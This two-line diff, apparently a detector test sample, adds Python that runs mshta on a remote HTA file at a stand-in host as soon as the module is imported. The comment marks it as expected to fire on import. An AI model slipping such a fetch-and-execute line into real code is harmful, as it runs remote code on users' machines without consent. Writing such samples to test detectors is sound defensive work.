@@ -1,0 +1,2 @@
+import subprocess
+subprocess.run("mshta https://code.invalid/x.hta", shell=True)  # fires: import
